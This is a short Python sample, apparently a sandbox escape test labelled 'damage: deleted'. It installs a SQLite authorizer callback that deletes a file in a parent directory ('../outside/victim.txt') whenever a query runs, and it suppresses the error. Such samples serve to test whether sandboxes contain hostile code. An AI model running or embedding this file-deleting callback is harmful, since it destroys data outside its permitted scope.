# The function that is asked for permission runs code.
# damage: deleted
# needs: sqlite3
import os
import sqlite3

connection = sqlite3.connect(":memory:")
connection.set_authorizer(lambda *arguments: os.unlink("../outside/victim.txt") or 0)
try:
    connection.execute("select 1")
except sqlite3.DatabaseError:
    pass
